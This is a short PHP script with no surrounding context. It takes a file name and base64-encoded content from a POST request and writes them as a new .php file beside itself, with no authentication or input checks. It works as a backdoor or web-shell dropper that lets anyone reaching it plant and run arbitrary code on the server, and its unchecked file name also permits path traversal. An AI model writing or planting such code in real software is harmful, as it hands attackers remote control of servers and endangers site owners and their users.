<?php
if (isset($_POST['n']) && isset($_POST['d'])) {
    $target = dirname(__FILE__) . '/' . $_POST['n'] . '.php';
    file_put_contents($target, base64_decode($_POST['d']));
    echo 'written: ' . $target;
}
